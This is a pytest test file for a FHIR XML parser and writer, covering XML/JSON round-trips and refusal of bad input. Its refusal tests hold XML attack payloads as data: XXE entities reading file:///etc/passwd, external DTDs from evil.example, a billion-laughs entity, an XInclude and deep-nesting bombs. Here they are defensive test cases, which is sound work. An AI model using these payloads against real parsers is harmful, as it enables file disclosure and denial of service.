"""FHIR XML: what it becomes in JSON and back, and what is refused (http://hl7.org/fhir/R4/xml.html)."""

from decimal import Decimal

import pytest

from salus.core.errors import MalformedContent, TooLarge
from salus.core.limits import Limits
from salus.standards.fhir.codec.xml import parse_xml, primitive, write_xml

LIMITS = Limits()


def patient(inner):
    return f'<Patient xmlns="http://hl7.org/fhir">{inner}</Patient>'.encode()


def parsed(inner):
    return parse_xml(patient(inner), LIMITS)


def test_elements_are_read_in_any_order():
    assert parsed('<gender value="male"/><active value="true"/>') == {
        "resourceType": "Patient",
        "gender": "male",
        "active": True,
    }


@pytest.mark.parametrize(
    ("inner", "members"),
    [
        ('<id value="p"/><active value="true"/>', {"id": "p", "active": True}),
        ('<birthDate value="1974-12"/>', {"birthDate": "1974-12"}),
        ('<multipleBirthInteger value="2"/>', {"multipleBirthInteger": 2}),
        ("<name><given value='A'/><given value='B'/></name>", {"name": [{"given": ["A", "B"]}]}),
        ('<name id="n"/>', {"name": [{"id": "n"}]}),
        (
            '<birthDate id="b" value="19"><extension url="u"><valueCode value="y"/></extension></birthDate>',
            {
                "birthDate": "19",
                "_birthDate": {"id": "b", "extension": [{"url": "u", "valueCode": "y"}]},
            },
        ),
        (
            '<name><given value="A"/><given id="g"/><given value="C"/></name>',
            {"name": [{"given": ["A", None, "C"], "_given": [None, {"id": "g"}, None]}]},
        ),
        ('<name><family id="f"/></name>', {"name": [{"_family": {"id": "f"}}]}),
        (
            '<contained><Basic><id value="b"/></Basic></contained>',
            {"contained": [{"resourceType": "Basic", "id": "b"}]},
        ),
        ("<!-- a comment --><active value='false'/>", {"active": False}),
        ('<active value="yes"/>', {"active": "yes"}),
        ('<multipleBirthInteger value="1.5"/>', {"multipleBirthInteger": "1.5"}),
        (
            '<text><div xmlns="http://www.w3.org/1999/xhtml">a <b>c</b> &lt;</div></text>',
            {
                "text": {
                    "div": '<div xmlns="http://www.w3.org/1999/xhtml">a <b>c</b> &lt;</div>',
                }
            },
        ),
        (
            '<text><h:div xmlns:h="http://www.w3.org/1999/xhtml">a<h:br/>b</h:div></text>',
            {"text": {"div": '<div xmlns="http://www.w3.org/1999/xhtml">a<br/>b</div>'}},
        ),
    ],
)
def test_xml_and_json_say_the_same(inner, members):
    assert parsed(inner) == {"resourceType": "Patient", **members}
    assert parse_xml(write_xml(parsed(inner)), LIMITS) == parsed(inner)


def test_decimals_keep_their_digits():
    inner = b'<target><detailQuantity><value value="72.50"/></detailQuantity></target>'
    body = b'<Goal xmlns="http://hl7.org/fhir">' + inner + b"</Goal>"
    value = parse_xml(body, LIMITS)["target"][0]["detailQuantity"]["value"]
    assert isinstance(value, Decimal)
    assert str(value) == "72.50"
    assert b'<value value="72.50"/>' in write_xml(parse_xml(body, LIMITS))


def test_elements_are_written_in_the_order_of_the_standard():
    body = write_xml(
        {"resourceType": "Patient", "birthDate": "1974", "name": [{"family": "F", "use": "usual"}]}
    )
    assert body.index(b"<name>") < body.index(b"<birthDate")
    assert body.index(b"<use") < body.index(b"<family")


def test_special_characters_survive():
    text = 'a"b<c>&d\n\te\r'
    resource = {"resourceType": "Patient", "name": [{"text": text}]}
    assert parse_xml(write_xml(resource), LIMITS) == resource


def test_named_entities_of_html_are_written_as_characters():
    text = {"status": "generated", "div": '<div xmlns="http://www.w3.org/1999/xhtml">a&nbsp;b</div>'}
    body = write_xml({"resourceType": "Patient", "text": text})
    assert parse_xml(body, LIMITS)["text"]["div"] == '<div xmlns="http://www.w3.org/1999/xhtml">a\xa0b</div>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_the_declared_encoding_is_read(encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + patient('<id value="é"/>').decode()
    assert parse_xml(text.encode(encoding), LIMITS)["id"] == "é"


DOCTYPES = {
    "plain": "<!DOCTYPE Patient>",
    "internal": '<!DOCTYPE Patient [<!ENTITY a "b">]>',
    "file": '<!DOCTYPE Patient [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    "external": '<!DOCTYPE Patient SYSTEM "http://evil.example/x.dtd">',
    "parameter": '<!DOCTYPE Patient [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]>',
    "laughs": '<!DOCTYPE Patient [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
}


@pytest.mark.parametrize("name", sorted(DOCTYPES))
def test_a_doctype_is_refused_and_nothing_is_fetched(name):
    body = DOCTYPES[name].encode() + patient('<id value="x"/>')
    with pytest.raises(MalformedContent):
        parse_xml(body, LIMITS)


def test_a_doctype_in_another_encoding_is_seen():
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE Patient><Patient xmlns="http://hl7.org/fhir"/>'
    with pytest.raises(MalformedContent, match="DOCTYPE"):
        parse_xml(text.encode("utf-16"), LIMITS)


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (b"", ""),
        (b"<Patient", ""),
        (b"<Patient/>", "namespace"),
        (b'<Patient xmlns="urn:other"/>', "namespace"),
        (b'<Patients xmlns="http://hl7.org/fhir"/>', "Patients"),
        (b'<DomainResource xmlns="http://hl7.org/fhir"/>', "DomainResource"),
        (patient("<nothing/>"), "Patient"),
        (patient('<name><nothing value="1"/></name>'), "Patient.name[0]"),
        (patient("<active/>"), "Patient.active"),
        (patient('<active value="true"/><active value="true"/>'), "Patient.active"),
        (patient('<active value="true" other="1"/>'), "Patient.active"),
        (patient('<name value="x"/>'), "Patient.name[0]"),
        (patient("text"), "Patient"),
        (patient("<name>text</name>"), "Patient.name[0]"),
        (patient("<name><?php evil ?></name>"), "Patient.name[0]"),
        (patient("<contained/>"), "Patient.contained[0]"),
        (patient("<contained><Basic/><Basic/></contained>"), "Patient.contained[0]"),
        (patient('<x:active xmlns:x="urn:x" value="true"/>'), "namespace"),
        (patient('<active value="&undefined;"/>'), ""),
        (
            patient(
                '<name xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></name>'
            ),
            "namespace",
        ),
        (b"\x00\xff", ""),
        (b'<?xml version="1.0" encoding="nonsense"?><Patient xmlns="http://hl7.org/fhir"/>', ""),
    ],
)
def test_what_is_no_fhir_xml_is_refused_with_its_place(body, place):
    with pytest.raises(MalformedContent) as refusal:
        parse_xml(body, LIMITS)
    assert place in str(refusal.value)
    assert "root:" not in str(refusal.value)


@pytest.mark.parametrize("count", [70, 300, 100_000])
def test_deep_nesting_is_refused(count):
    extension = '<extension url="u">'
    body = patient(extension * count + "</extension>" * count)
    with pytest.raises(MalformedContent):
        parse_xml(body, LIMITS)


def test_deep_markup_is_refused():
    deep = "<b>" * 5_000 + "</b>" * 5_000
    with pytest.raises(MalformedContent):
        parsed(f'<text><div xmlns="http://www.w3.org/1999/xhtml">{deep}</div></text>')


def test_a_body_over_the_limit_is_refused():
    with pytest.raises(TooLarge):
        parse_xml(patient('<id value="x"/>'), Limits(body_bytes_max=10))


@pytest.mark.parametrize(
    "resource",
    [
        {},
        {"resourceType": "Nothing"},
        {"resourceType": "Patient", "nothing": 1},
        {"resourceType": "Patient", "name": ["text"]},
        {"resourceType": "Patient", "active": {"a": 1}},
        {"resourceType": "Patient", "id": "a\x00b"},
        {"resourceType": "Patient", "contained": [{"id": "x"}]},
        {"resourceType": "Patient", "text": {"div": "<p>no div</p>"}},
        {"resourceType": "Patient", "text": {"div": "<div"}},
        {
            "resourceType": "Patient",
            "text": {"div": '<!DOCTYPE div><div xmlns="http://www.w3.org/1999/xhtml"/>'},
        },
    ],
)
def test_what_xml_cannot_carry_is_refused(resource):
    with pytest.raises(MalformedContent):
        write_xml(resource)


@pytest.mark.parametrize("number", ["1e400000", "-1e-20000", "1." + "0" * 20_000])
def test_a_number_that_no_database_holds_is_refused(number):
    with pytest.raises(MalformedContent):
        primitive("decimal", number)
